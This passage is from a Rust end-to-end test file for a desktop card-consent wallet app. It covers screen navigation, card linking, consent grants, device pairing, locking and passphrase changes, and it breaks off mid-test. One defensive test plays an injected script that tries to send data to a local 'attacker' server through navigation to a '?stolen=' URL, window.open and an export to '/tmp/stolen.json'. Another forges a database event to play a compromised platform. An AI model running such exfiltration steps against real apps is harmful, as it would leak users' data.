//! End-to-end: the real debug app under Xvfb, driven over WebDriver.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use consentry_testkit::app::{app_binary, skip_unless_available, DialogScript, RunningApp};

mod closing;
mod desktop;
mod devices;
mod felt_speed;
mod grant_detail;
mod keyboard;
mod missing_rewards;
mod purchases;
mod reconsent;

const SCREENS: [(&str, &str, &str); 6] = [
    ("cards", "Cards", "Cartes"),
    (
        "consents",
        "Apps & permissions",
        "Applications et autorisations",
    ),
    ("activity", "Activity", "Activité"),
    ("rewards", "Rewards", "Récompenses"),
    ("export", "Export", "Exporter"),
    ("settings", "Settings", "Réglages"),
];

#[tokio::test(flavor = "multi_thread")]
async fn shell_visits_every_screen_switches_language_and_reads_app_info() {
    if skip_unless_available() {
        return;
    }
    let app = RunningApp::start().await;

    assert_eq!(app.client.title().await.unwrap(), "Consentry");
    app.create_keyring_wallet().await;

    for (route, english, _) in SCREENS {
        app.click(&format!("nav a[data-route='{route}']")).await;
        app.wait_text("h1", english).await;
    }

    // Settings is the last screen visited: switch to French, check every label, and back.
    app.click("#language option[value='fr']").await;
    app.wait_text("h1", "Réglages").await;
    for (route, _, french) in SCREENS {
        assert_eq!(
            app.text(&format!("nav a[data-route='{route}']")).await,
            french
        );
    }
    app.click("#language option[value='en']").await;
    app.wait_text("h1", "Settings").await;

    // The version comes through the real app_info command.
    app.wait_text("[data-testid=app-version]", env!("CARGO_PKG_VERSION"))
        .await;
    let data_dir = app.text("[data-testid=data-dir]").await;
    assert_eq!(data_dir, app.data_dir.display().to_string());
    assert_eq!(app.text("[data-testid=build-profile]").await, "debug");

    // A second launch hands over to the running app and exits.
    let started = Instant::now();
    let mut second = Command::new(app_binary())
        .env("CONSENTRY_DATA_DIR", &app.data_dir)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let status = loop {
        if let Some(status) = second.try_wait().unwrap() {
            break status;
        }
        if started.elapsed() > Duration::from_secs(15) {
            let _ = second.kill();
            panic!("the second instance did not exit: single-instance is not working");
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    assert!(status.success(), "second instance exited with {status}");
    assert_eq!(
        app.client.title().await.unwrap(),
        "Consentry",
        "first instance still alive"
    );

    app.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_window_remembers_its_size_across_launches() {
    if skip_unless_available() {
        return;
    }
    let app = RunningApp::start().await;
    app.wait_text("h1", "Create your wallet").await;
    app.client.set_window_size(900, 640).await.unwrap();
    let (w, h) = app.client.get_window_size().await.unwrap();
    assert_eq!((w, h), (900, 640), "the window did not resize");
    // Saved shortly after the change, before any exit.
    let state = app.data_dir.join("window-state.json");
    let deadline = std::time::Instant::now() + Duration::from_secs(5);
    while !std::fs::read_to_string(&state).is_ok_and(|s| s.contains("900")) {
        assert!(
            std::time::Instant::now() < deadline,
            "window-state.json not written"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }

    let app = app.restart().await;
    app.wait_text("h1", "Create your wallet").await;
    let (w, h) = app.client.get_window_size().await.unwrap();
    assert_eq!(
        (w, h),
        (900, 640),
        "size not restored from window-state.json"
    );
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_wallet_locks_and_unlocks_with_the_real_keyring_across_restarts() {
    if skip_unless_available() {
        return;
    }
    let app = RunningApp::start().await;
    app.create_keyring_wallet().await;
    let db = app.data_dir.join("wallet.db");
    let header = std::fs::read(&db).unwrap();
    assert_ne!(
        &header[..16],
        b"SQLite format 3\0",
        "the wallet file must be encrypted"
    );

    app.click("nav a[data-route='settings']").await;
    app.wait_text("[data-testid=wallet-state]", "unlocked")
        .await;
    // Locking replaces the window's web process, which ends the WebDriver session (see
    // after_lock_no_process_of_the_app_holds_a_secret): the unlock is checked after a restart.
    app.click_button("Lock now").await;

    // A new process starts locked and opens with the key from gnome-keyring.
    let app = app.restart().await;
    app.wait_text("h1", "Unlock your wallet").await;
    app.click_button("Unlock with the system keyring").await;
    app.wait_text("h1", "Cards").await;
    app.stop().await;
}

/// `make screenshots`: every screen of the real app in English and French, into
/// `CONSENTRY_SCREENSHOTS` (docs/screens by default). Ignored in the normal run.
#[tokio::test(flavor = "multi_thread")]
#[ignore = "writes the README's screenshots; run with `make screenshots`"]
async fn screenshots_of_every_screen_in_both_languages() {
    if skip_unless_available() {
        return;
    }
    let out = std::env::var_os("CONSENTRY_SCREENSHOTS")
        .map(std::path::PathBuf::from)
        .unwrap_or_else(|| {
            std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../docs/screens")
        });
    std::fs::create_dir_all(&out).unwrap();
    let app = RunningApp::start_with(&[("CONSENTRY_DEMO_EVERY", "0")]).await;
    // A lived-in wallet: the demo card, three apps allowed, a few purchases.
    link_first_card(&app).await;
    app.click("nav a[data-route='consents']").await;
    for app_id in ["app_quire", "app_cashcove", "app_beanstamp"] {
        app.click(&format!(
            "article[aria-labelledby='app-{app_id}'] input[role=switch]"
        ))
        .await;
    }
    app.click("nav a[data-route='cards']").await;
    app.click_button("Simulate a purchase").await;
    for _ in 0..3 {
        app.click_button("Pay").await;
        tokio::time::sleep(Duration::from_millis(700)).await;
    }
    purchases::wait_rows(&app, |rows| {
        rows.iter().any(|r| r.1.iter().any(|k| k == "Receipt"))
    })
    .await;
    for (locale, index) in [("en", 1), ("fr", 2)] {
        if locale == "fr" {
            app.click("nav a[data-route='settings']").await;
            app.click("#language option[value='fr']").await;
            app.wait_text("h1", "Réglages").await;
        }
        for screen in SCREENS {
            app.click(&format!("nav a[data-route='{}']", screen.0))
                .await;
            let title = if index == 1 { screen.1 } else { screen.2 };
            app.wait_text("h1", title).await;
            if screen.0 == "activity" {
                // The newest purchase opened on what the apps did with it.
                app.click("[data-testid=activity-expand]").await;
            }
            tokio::time::sleep(Duration::from_millis(300)).await;
            let png = app.client.screenshot().await.unwrap();
            assert!(png.starts_with(b"\x89PNG"), "a PNG screenshot");
            std::fs::write(out.join(format!("{}-{locale}.png", screen.0)), png).unwrap();
        }
    }
    app.stop().await;
}

/// The grants on the embedded demo platform's own database (plain SQLite, read with the
/// `sqlite3` tool): `(app_id, status)` per grant.
fn platform_grants(data_dir: &std::path::Path) -> Vec<(String, String)> {
    sqlite_one(
        data_dir,
        "SELECT app_id || '|' || status FROM grants ORDER BY app_id",
    )
    .lines()
    .filter_map(|l| l.split_once('|'))
    .map(|(a, s)| (a.to_owned(), s.to_owned()))
    .collect()
}

/// Waits up to 20 s for the demo platform to hold exactly `expected` grants.
async fn wait_platform_grants(data_dir: &std::path::Path, expected: &[(&str, &str)]) {
    let expected: Vec<(String, String)> = expected
        .iter()
        .map(|(a, s)| ((*a).to_owned(), (*s).to_owned()))
        .collect();
    let start = Instant::now();
    loop {
        let now = platform_grants(data_dir);
        if now == expected {
            return;
        }
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "the platform holds {now:?}, expected {expected:?}"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

/// Waits until the app's card (`article` selector) says its grant reached the platform.
async fn wait_synced(app: &RunningApp, article: &str) {
    app.wait_until(
        &format!("{article} [data-testid=grant-sync] .badge"),
        Duration::from_secs(20),
        |t| t == ["Synced"],
    )
    .await;
}

/// Pays once with the card on the Cards screen (the demo platform's simulator).
async fn pay_once(app: &RunningApp) {
    app.click("nav a[data-route='cards']").await;
    app.click_button("Simulate a purchase").await;
    app.click_button("Pay").await;
    app.text("[data-testid=simulate-result]").await;
}

async fn revisit_activity(app: &RunningApp) {
    app.click("nav a[data-route='cards']").await;
    app.click("nav a[data-route='activity']").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn link_grant_purchase_receipt_revoke_and_unlink_through_the_demo_platform() {
    if skip_unless_available() {
        return;
    }
    // The embedded demo platform, with its background simulator off: purchases happen only
    // when the test asks.
    let app = RunningApp::start_with(&[("CONSENTRY_DEMO_EVERY", "0")]).await;
    app.create_keyring_wallet_to_first_card().await;

    // A mistyped number: an inline error, and nothing is linked.
    app.type_into("#first-card-number", "4242424242424241")
        .await;
    let error = app.text("[data-testid=link-number-error]").await;
    assert!(error.contains("mistyped"), "{error}");
    app.click("#first-card-month option[value='12']").await;
    let year = (chrono_year() + 3).to_string();
    app.click(&format!("#first-card-year option[value='{year}']"))
        .await;
    app.click_button("Link this card").await;
    assert!(app.texts("[data-testid=first-card-done]").await.is_empty());

    // The test card links through the platform; only •••• 4242 comes back.
    app.click_button("Use the test card").await;
    app.click_button("Link this card").await;
    let done = app.text("[data-testid=first-card-done]").await;
    assert!(done.contains("•••• 4242"), "{done}");
    app.click_button("Continue").await;
    app.wait_text("h1", "Cards").await;

    // Grant receipts to the receipts app; the change reaches the platform.
    app.click("nav a[data-route='consents']").await;
    app.wait_text("h1", "Apps & permissions").await;
    let quire = "article[aria-labelledby='app-app_quire']";
    app.click(&format!("{quire} input[role=switch]")).await;
    wait_synced(&app, quire).await;
    wait_platform_grants(&app.data_dir, &[("app_quire", "active")]).await;

    // A purchase: the receipt appears in Activity, inside the purchase.
    pay_once(&app).await;
    purchases::wait_rows(&app, |rows| {
        rows.iter()
            .any(|r| r.0.starts_with("Purchase") && r.1.iter().any(|k| k == "Receipt"))
    })
    .await;

    // Revoke (one click, like granting): the next purchase yields no receipt.
    app.click("nav a[data-route='consents']").await;
    app.click(&format!("{quire} input[role=switch]")).await;
    wait_platform_grants(&app.data_dir, &[("app_quire", "revoked")]).await;
    wait_synced(&app, quire).await;
    pay_once(&app).await;
    // Wait for both purchases, settled (their last event), then look inside each: the
    // receipt is in the first one only.
    let rows = purchases::wait_rows(&app, |rows| {
        let settled = rows
            .iter()
            .filter(|r| r.0.starts_with("Purchase") && r.1.iter().any(|k| k == "Purchase settled"))
            .count();
        settled == 2
    })
    .await;
    let receipts: Vec<usize> = rows
        .iter()
        .filter(|r| r.0.starts_with("Purchase"))
        .map(|r| r.1.iter().filter(|k| *k == "Receipt").count())
        .collect();
    assert_eq!(
        {
            let mut sorted = receipts.clone();
            sorted.sort_unstable();
            sorted
        },
        [0, 1],
        "no receipt after revoking: {rows:?}"
    );

    // The consent history shows both entries.
    app.click("nav a[data-route='consents']").await;
    app.wait_until("li[data-action]", Duration::from_secs(10), |entries| {
        entries.len() >= 2
    })
    .await;
    let actions: Vec<String> = {
        let mut out = Vec::new();
        for el in app
            .client
            .find_all(fantoccini::Locator::Css("li[data-action]"))
            .await
            .unwrap()
        {
            out.push(el.attr("data-action").await.unwrap().unwrap_or_default());
        }
        out
    };
    assert!(actions.contains(&"grant".to_owned()), "{actions:?}");
    assert!(actions.contains(&"revoke".to_owned()), "{actions:?}");

    // Grant again, then unlink the card: the platform ends with no active grant.
    app.click(&format!("{quire} input[role=switch]")).await;
    wait_platform_grants(&app.data_dir, &[("app_quire", "active")]).await;
    app.click("nav a[data-route='cards']").await;
    app.click_button("Unlink").await;
    app.click_button("Unlink the card").await;
    app.wait_until("ul.cards li.card", Duration::from_secs(20), |rows| {
        rows.is_empty()
    })
    .await;
    wait_platform_grants(&app.data_dir, &[("app_quire", "revoked")]).await;
    app.stop().await;
}

fn chrono_year() -> i32 {
    let secs = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    // Good enough for choosing a future expiry year.
    1970 + i32::try_from(secs / 31_556_952).unwrap()
}

/// The demo platform's address and this cardholder's credentials, as Settings shows them.
async fn shown_credentials(app: &RunningApp) -> (String, String, String) {
    app.click("nav a[data-route='settings']").await;
    app.click_button("Show credentials for another device")
        .await;
    let url = app.text("[data-testid=platform-current-url]").await;
    let cardholder = app.text("[data-testid=platform-cardholder]").await;
    let secret = app.text("[data-testid=platform-secret]").await;
    (url, cardholder, secret)
}

/// `POST` or `GET` on the demo platform as a second device would (JSON in, JSON out).
async fn platform_call(
    http: &reqwest::Client,
    method: reqwest::Method,
    url: &str,
    token: Option<&str>,
    body: Option<serde_json::Value>,
) -> serde_json::Value {
    let mut request = http.request(method, url);
    if let Some(token) = token {
        request = request.bearer_auth(token);
    }
    if let Some(body) = body {
        request = request.json(&body);
    }
    let response = request.send().await.expect("the demo platform answers");
    let status = response.status();
    let json: serde_json::Value = response.json().await.unwrap_or_default();
    assert!(status.is_success(), "{url}: {status} {json}");
    json
}

#[tokio::test(flavor = "multi_thread")]
async fn a_second_device_pairs_through_the_window_and_a_platform_claim_is_shown_as_such() {
    if skip_unless_available() {
        return;
    }
    // The person says yes to showing the credentials (a native dialog the page cannot answer).
    let dialogs = DialogScript::new(true);
    let app = RunningApp::start_with(&[
        ("CONSENTRY_DEMO_EVERY", "0"),
        ("CONSENTRY_TEST_DIALOGS", dialogs.path()),
    ])
    .await;
    link_first_card(&app).await;
    app.wait_text("h1", "Cards").await;

    // A second device of this cardholder (played by the test over HTTP): enrolled with the
    // credentials, it can read but not change consent until it is paired.
    let (url, cardholder, secret) = shown_credentials(&app).await;
    let base = url.trim_end_matches('/').to_owned();
    let http = reqwest::Client::new();
    let enrolled = platform_call(
        &http,
        reqwest::Method::POST,
        &format!("{base}/v1/enroll"),
        None,
        Some(
            serde_json::json!({"device_name": "phone", "cardholder_id": cardholder,
            "cardholder_secret": secret}),
        ),
    )
    .await;
    let token = enrolled["token"].as_str().unwrap().to_owned();
    let phone = enrolled["device_id"].as_str().unwrap().to_owned();

    // Settings → Add a device shows a code; the phone proves it knows it.
    app.click("[data-testid=pairing-start]").await;
    let code = app.text("[data-testid=pairing-code]").await;
    assert_eq!(code.len(), 11, "{code:?}");
    let key = consentry_domain::DeviceKey::from_seed(&[42u8; 32]);
    let proof = consentry_domain::pairing_proof(&code, &cardholder, &phone, &key.public_key());
    platform_call(
        &http,
        reqwest::Method::POST,
        &format!("{base}/v1/devices/pairings"),
        Some(&token),
        Some(serde_json::json!({"public_key": key.public_key(), "proof": proof})),
    )
    .await;
    // The window's device vouches for it at its next pass.
    let start = Instant::now();
    let chain = loop {
        app.click_button("Sync now").await;
        let chain = platform_call(
            &http,
            reqwest::Method::GET,
            &format!("{base}/v1/devices/chain"),
            Some(&token),
            None,
        )
        .await;
        if chain["links"].as_array().is_some_and(|l| l.len() == 2) {
            break chain;
        }
        assert!(
            start.elapsed() < Duration::from_secs(30),
            "never paired: {chain}"
        );
        tokio::time::sleep(Duration::from_millis(500)).await;
    };
    let links: Vec<consentry_domain::DeviceLink> =
        serde_json::from_value(chain["links"].clone()).unwrap();
    let verified = consentry_domain::DeviceChain::verify(&links, &cardholder).unwrap();
    assert!(verified.keys.contains_key(&phone));
    assert_eq!(
        links[1].added_by, links[0].device_id,
        "vouched for by the window's device"
    );

    // A consent change nobody signed, written straight into the platform's feed (a platform
    // that lies): the window shows it as the platform's claim, not as another device's.
    let card: String = sqlite_one(&app.data_dir, "SELECT token FROM cards LIMIT 1");
    let grant = consentry_domain::Grant::new(
        "grt_claimed",
        consentry_domain::GrantDetails {
            app_id: "app_tastemaker".into(),
            card_token: card.clone(),
            scope: consentry_domain::Scope::SocialPosts,
            channels: [consentry_domain::Channel::Card].into_iter().collect(),
            trigger: consentry_domain::Trigger::Authorization,
            min_purchase: None,
            expires_at: None,
        },
        1,
        chrono::Utc::now(),
    )
    .unwrap();
    let body = serde_json::json!({"id": "evt_forged_claim", "type": "consent.changed",
        "occurred_at": chrono::Utc::now().to_rfc3339(), "card_token": card,
        "cardholder_id": cardholder, "action": "grant", "grant": grant});
    sqlite_exec(
        &app.data_dir,
        &format!(
            "INSERT INTO events (id, cardholder_id, type, body, created_at) VALUES \
             ('evt_forged_claim', '{cardholder}', 'consent.changed', '{}', '{}')",
            body.to_string().replace('\'', "''"),
            chrono::Utc::now().to_rfc3339()
        ),
    );
    app.click_button("Sync now").await;
    app.click("nav a[data-route='activity']").await;
    // The rows' own text (a long line may be clipped on screen, and WebDriver then reads it
    // as empty).
    let start = Instant::now();
    let rows = loop {
        let rows = row_texts(&app).await;
        if rows.iter().any(|r| r.contains("The platform claims")) {
            break rows;
        }
        assert!(
            start.elapsed() < Duration::from_secs(30),
            "no claim in Activity: {rows:?}"
        );
        app.click_button("Sync now").await;
        revisit_activity(&app).await;
        tokio::time::sleep(Duration::from_millis(500)).await;
    };
    assert!(
        !rows.iter().any(|l| l.contains("on another device")),
        "{rows:?}"
    );
    // And Settings lists it among what the wallet refused to believe.
    app.click("nav a[data-route='settings']").await;
    app.wait_texts(
        "[data-testid=platform-trust]",
        Duration::from_secs(20),
        |texts| texts.iter().any(|t| t.contains("only the platform claims")),
        || async {
            app.click("nav a[data-route='cards']").await;
            app.click("nav a[data-route='settings']").await;
        },
    )
    .await;
    let claims = app.text("[data-testid=trust-claims]").await;
    assert!(claims.contains("app_tastemaker"), "{claims}");
    app.stop().await;
}

/// The text content of every Activity row.
async fn row_texts(app: &RunningApp) -> Vec<String> {
    let value = app
        .client
        .execute(
            "return [...document.querySelectorAll('[data-testid=activity-list] [data-testid=activity-row]')]\
             .map((row) => row.textContent.replace(/\\s+/g, ' ').trim());",
            vec![],
        )
        .await
        .expect("read the rows");
    serde_json::from_value(value).unwrap_or_default()
}

/// One value (or rows, one a line) from the demo platform's database.
fn sqlite_one(data_dir: &std::path::Path, sql: &str) -> String {
    let db = data_dir.join("demo-platform/platform.sqlite3");
    let out = Command::new("sqlite3")
        .arg("-readonly")
        .arg(&db)
        .arg(sql)
        .output()
        .expect("sqlite3");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

/// Writes into the demo platform's database behind its back (what a compromised platform does).
fn sqlite_exec(data_dir: &std::path::Path, sql: &str) {
    let db = data_dir.join("demo-platform/platform.sqlite3");
    let out = Command::new("sqlite3")
        .arg(&db)
        .arg(format!("PRAGMA busy_timeout = 5000; {sql}"))
        .output()
        .expect("sqlite3");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Calls `command` from inside the page, as an injected script would, and returns
/// `{"ok": response}` or `{"err": error}`.
async fn invoke_from_page(
    app: &RunningApp,
    command: &str,
    request: serde_json::Value,
) -> serde_json::Value {
    app.client
        .execute_async(
            "const [command, request, done] = arguments;
             window.__TAURI_INTERNALS__.invoke(command, { request })
               .then((ok) => done({ ok }), (err) => done({ err }));",
            vec![serde_json::json!(command), request],
        )
        .await
        .unwrap_or_else(|e| panic!("{command} from the page: {e}"))
}

/// A script injected into the page tries every way out the issue lists; each fails, and
/// the attacker's server never hears from the app.
#[tokio::test(flavor = "multi_thread")]
async fn a_script_injected_into_the_page_cannot_send_data_out() {
    if skip_unless_available() {
        return;
    }
    let attacker = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    attacker.set_nonblocking(true).unwrap();
    let attacker_url = format!("http://{}", attacker.local_addr().unwrap());
    // The person declines every native dialog.
    let dialogs = DialogScript::new(false);
    let app = RunningApp::start_with(&[
        ("CONSENTRY_DEMO_EVERY", "0"),
        ("CONSENTRY_TEST_DIALOGS", dialogs.path()),
    ])
    .await;
    app.create_keyring_wallet().await;

    // 1. Point the wallet at the attacker's platform (then card_link would send the number).
    let enroll = invoke_from_page(
        &app,
        "platform_enroll",
        serde_json::json!({"platformUrl": attacker_url, "deviceName": "x",
            "cardholderId": null, "cardholderSecret": null, "pairingCode": null}),
    )
    .await;
    assert_eq!(enroll["err"]["code"], "cancelled", "{enroll}");
    assert!(
        dialogs.asked().contains(&attacker_url),
        "the native dialog names the address: {:?}",
        dialogs.asked()
    );

    // 2. Write the history where the page says: the request has no path to say it with.
    let named = invoke_from_page(
        &app,
        "export_history",
        serde_json::json!({"format": "json", "destination": "/tmp/stolen.json",
            "from": null, "to": null, "password": null}),
    )
    .await;
    // Refused by Tauri before the command runs.
    assert!(
        named["err"]
            .to_string()
            .contains("unknown field `destination`"),
        "{named}"
    );
    let export = invoke_from_page(
        &app,
        "export_history",
        serde_json::json!({"format": "json", "from": null, "to": null, "password": null}),
    )
    .await;
    assert_eq!(export["err"]["code"], "cancelled", "{export}");
    let claim = invoke_from_page(
        &app,
        "missing_reward_save",
        serde_json::json!({"transactionId": "txn_x", "appId": "app_x", "destination": "/tmp/x"}),
    )
    .await;
    assert!(
        claim["err"]
            .to_string()
            .contains("unknown field `destination`"),
        "{claim}"
    );

    // 3. Read the cardholder secret.
    let secret = invoke_from_page(&app, "platform_credentials", serde_json::json!({})).await;
    assert!(secret.get("ok").is_none(), "{secret}");

    // 4. A command the window is not granted.
    let unread = invoke_from_page(&app, "activity_unread", serde_json::json!({})).await;
    assert!(unread.get("ok").is_none(), "{unread}");
    assert!(
        unread["err"].to_string().contains("not allowed"),
        "{unread}"
    );

    // 5. Leave the app for the attacker's page, and open a window there.
    let before = app.client.current_url().await.unwrap();
    app.client
        .execute(
            "location.href = arguments[0] + '/?stolen=' + document.title; return 1;",
            vec![serde_json::json!(attacker_url)],
        )
        .await
        .unwrap();
    let opened = app
        .client
        .execute(
            "return window.open(arguments[0] + '/?stolen=1') === null;",
            vec![serde_json::json!(attacker_url)],
        )
        .await
        .unwrap();
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert_eq!(app.client.current_url().await.unwrap(), before);
    assert_eq!(
        app.client.windows().await.unwrap().len(),
        1,
        "opened: {opened}"
    );
    app.wait_text("h1", "Cards").await;
    assert!(
        dialogs.asked().contains("Open in browser"),
        "the address was offered to the browser, natively: {:?}",
        dialogs.asked()
    );

    match attacker.accept() {
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
        other => panic!("the attacker's server was reached: {other:?}"),
    }
    app.stop().await;
}

/// The copies of the wallet key, the passphrase and the recovery key in the app and the
/// processes it started, by process.
fn secret_copies(
    app: &RunningApp,
    secrets: &[consentry_testkit::memscan::Secret],
) -> Vec<consentry_testkit::memscan::Found> {
    let pids = consentry_testkit::memscan::app_processes(&app.data_dir);
    assert!(!pids.is_empty(), "the app's processes were not found");
    pids.iter()
        .flat_map(|&pid| consentry_testkit::memscan::scan(pid, secrets).unwrap_or_default())
        .collect()
}

/// Lock means gone: after "Lock now", no process of the app holds the wallet key, the
/// passphrase or the recovery key (read from their memory, freed heap included). The lock
/// replaces the window's web process, which ends the WebDriver session (WebKit reports the
/// old page as crashed): the test watches the processes from there.
#[tokio::test(flavor = "multi_thread")]
async fn after_lock_no_process_of_the_app_holds_a_secret() {
    if skip_unless_available() {
        return;
    }
    const PASSPHRASE: &str = "Correct-Horse-Battery-7391";
    let app = RunningApp::start_with(&[("CONSENTRY_DEMO_EVERY", "0")]).await;
    app.wait_text("h1", "Create your wallet").await;
    app.click("input[name=key-home][value=passphrase]").await;
    app.type_into("#new-passphrase", PASSPHRASE).await;
    app.type_into("#confirm-passphrase", PASSPHRASE).await;
    app.click_button("Create the wallet").await;
    let recovery_key = app.text("[data-testid=recovery-key]").await;
    app.click("input[type=checkbox]").await;
    app.click_button("Continue").await;
    app.click_button("Skip for now").await;
    app.wait_text("h1", "Cards").await;
    app.click("nav a[data-route='activity']").await;
    app.wait_text("h1", "Activity").await;
    // A control read through WebDriver last: WebKit's automation (present only under
    // WebDriver) keeps its latest answers in the app process, so the secrets read before it
    // (the recovery key) are not held there by the test harness itself.
    const CONTROL: &str = "QZQZ-WDWD-7777-CTRL";
    app.client
        .execute(
            "const p = document.createElement('p'); p.id = 'control'; p.textContent = arguments[0]; document.body.appendChild(p); return 1;",
            vec![serde_json::json!(CONTROL)],
        )
        .await
        .unwrap();
    assert_eq!(app.text("#control").await, CONTROL);
    let typed = [
        consentry_testkit::memscan::Secret::text("control read by webdriver", CONTROL),
        consentry_testkit::memscan::Secret::text("passphrase", PASSPHRASE),
        consentry_testkit::memscan::Secret::text("recovery key", &recovery_key),
    ];
    let unlocked = secret_copies(&app, &typed);
    for secret in ["passphrase", "recovery key", "control read by webdriver"] {
        assert!(
            unlocked.iter().any(|f| f.secret == secret),
            "the scan finds {secret} while unlocked: {unlocked:?}"
        );
    }
    let web_before = web_processes(&app);

    app.click("nav a[data-route='settings']").await;
    let started = Instant::now();
    app.click_button("Lock now").await;
    // Locked once the old web process is gone and a new one shows the page.
    wait_web_process_replaced(&app, &web_before, "Lock now").await;
    let lock_took = started.elapsed();
    tokio::time::sleep(Duration::from_secs(1)).await;
    // The key, read from the wallet file with the passphrase now that the app closed it.
    let key = wallet_key(&app.data_dir, PASSPHRASE).await;
    let mut secrets = vec![consentry_testkit::memscan::Secret::key("wallet key", &key)];
    secrets.extend(typed);
    let locked = secret_copies(&app, &secrets);
    eprintln!("memory scan, unlocked: {unlocked:?}");
    eprintln!("memory scan, after lock ({lock_took:?} until a new web process): {locked:?}");
    // Known gap (docs/decisions.md, "Lock means gone"): the answer that carried the
    // recovery key to the page at creation can stay in the C heap of the app process (GLib
    // and WebKit's side of the IPC). Everything else must be gone from every process.
    let held: Vec<_> = locked
        .iter()
        .filter(|f| f.secret != "control read by webdriver")
        .filter(|f| !(f.secret == "recovery key" && f.process == "consentry-app"))
        .collect();
    assert!(held.is_empty(), "after lock: {held:?}");
    app.stop().await;
}

/// Creates a keyring wallet and links the demo Visa in the first-run step.
/// The app on its embedded demo platform with the platform's own purchases off (they happen
/// only when a test asks), the test card linked: on the Cards screen.
async fn demo_app_with_a_card() -> RunningApp {
    let app = RunningApp::start_with(&[("CONSENTRY_DEMO_EVERY", "0")]).await;
    link_first_card(&app).await;
    app.wait_text("h1", "Cards").await;
    app
}

async fn link_first_card(app: &RunningApp) {
    app.create_keyring_wallet_to_first_card().await;
    app.type_into("#first-card-number", "4242424242424242")
        .await;
    app.click("#first-card-month option[value='12']").await;
    let year = (chrono_year() + 3).to_string();
    app.click(&format!("#first-card-year option[value='{year}']"))
        .await;
    app.click_button("Link this card").await;
    app.text("[data-testid=first-card-done]").await;
    app.click_button("Continue").await;
}

/// Waits until every web process in `before` is gone and a new one runs (what a lock does);
/// fails after 20 s, naming `what` was waited for.
async fn wait_web_process_replaced(app: &RunningApp, before: &[u32], what: &str) {
    let started = Instant::now();
    loop {
        let now = web_processes(app);
        if !now.is_empty() && now.iter().all(|pid| !before.contains(pid)) {
            return;
        }
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "{what}: the web process stayed"
        );
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

/// The app's WebKit web processes.
fn web_processes(app: &RunningApp) -> Vec<u32> {
    consentry_testkit::memscan::app_processes(&app.data_dir)
        .into_iter()
        .filter(|pid| {
            std::fs::read_to_string(format!("/proc/{pid}/comm"))
                .is_ok_and(|c| c.starts_with("WebKitWebProces"))
        })
        .collect()
}

/// The wallet's database key, by opening its file with the passphrase.
async fn wallet_key(data_dir: &std::path::Path, passphrase: &str) -> Vec<u8> {
    let mut wallet = consentry_store::Wallet::new(
        consentry_store::WalletPaths::in_dir(data_dir),
        None,
        chrono::Utc::now(),
    );
    let phrase = consentry_store::Passphrase::new(passphrase.to_owned());
    wallet
        .unlock(
            consentry_store::Unlock::Passphrase(&phrase),
            chrono::Utc::now(),
        )
        .await
        .unwrap();
    let key = wallet.raw_key().unwrap().expose_bytes().to_vec();
    wallet.lock().await;
    key
}

/// The auto-lock fires while Activity is open (its background refreshes are not the
/// person's activity), with "1 minute" shortened to 1.5 s for the test.
#[tokio::test(flavor = "multi_thread")]
async fn the_auto_lock_fires_while_activity_is_open() {
    if skip_unless_available() {
        return;
    }
    let app = RunningApp::start_with(&[
        ("CONSENTRY_DEMO_EVERY", "1"),
        ("CONSENTRY_TEST_AUTO_LOCK_MINUTE_MS", "1500"),
    ])
    .await;
    app.create_keyring_wallet().await;
    app.click("nav a[data-route='settings']").await;
    app.click("#auto-lock option[value='1']").await;
    app.click("nav a[data-route='activity']").await;
    app.wait_text("h1", "Activity").await;
    let before = web_processes(&app);
    let idle_since = Instant::now();
    // Locked: the web process is replaced (which ends the WebDriver session).
    wait_web_process_replaced(&app, &before, "auto-lock on Activity").await;
    eprintln!(
        "auto-lock fired {:?} after the last input",
        idle_since.elapsed()
    );
    // The wallet is locked for a new process too.
    let app = app.restart().await;
    app.wait_text("h1", "Unlock your wallet").await;
    app.stop().await;
}

/// Settings → Wallet in the real window: a passphrase set with the recovery key as proof,
/// changed with the current one, the key taken out of the keyring, a new recovery key shown
/// (after the native yes) and typed back. A new process then refuses the old recovery key and
/// the first passphrase, opens with the new recovery key (and offers the keyring), and with
/// the current passphrase.
#[tokio::test(flavor = "multi_thread")]
async fn passphrase_keyring_and_recovery_key_change_in_the_window() {
    if skip_unless_available() {
        return;
    }
    const FIRST: &str = "first passphrase 1234";
    const SECOND: &str = "second passphrase 5678";
    let dialogs = DialogScript::new(true);
    let app = RunningApp::start_with(&[
        ("CONSENTRY_DEMO_EVERY", "0"),
        ("CONSENTRY_TEST_DIALOGS", dialogs.path()),
    ])
    .await;
    let old_recovery = app.create_keyring_wallet().await;
    app.click("nav a[data-route='settings']").await;
    app.wait_text("[data-testid=keys-passphrase]", "not set")
        .await;
    // Without a passphrase the recovery key is the proof (already selected).
    app.type_into("#key-proof", &old_recovery).await;
    app.type_into("#key-new", FIRST).await;
    app.type_into("#key-confirm", FIRST).await;
    app.click_button("Set a passphrase").await;
    app.wait_text("[data-testid=keys-passphrase]", "set").await;

    app.click("label:nth-child(1) > input[name=key-proof]")
        .await;
    app.type_into("#key-proof", FIRST).await;
    app.type_into("#key-new", SECOND).await;
    app.type_into("#key-confirm", SECOND).await;
    app.click_button("Change the passphrase").await;
    app.wait_text(
        "[data-testid=keys-done]",
        "Passphrase saved: the old one no longer opens the wallet.",
    )
    .await;

    app.type_into("#key-proof", SECOND).await;
    app.click_button("Take the key out of the keyring").await;
    app.wait_text("[data-testid=keys-keyring]", "not used")
        .await;

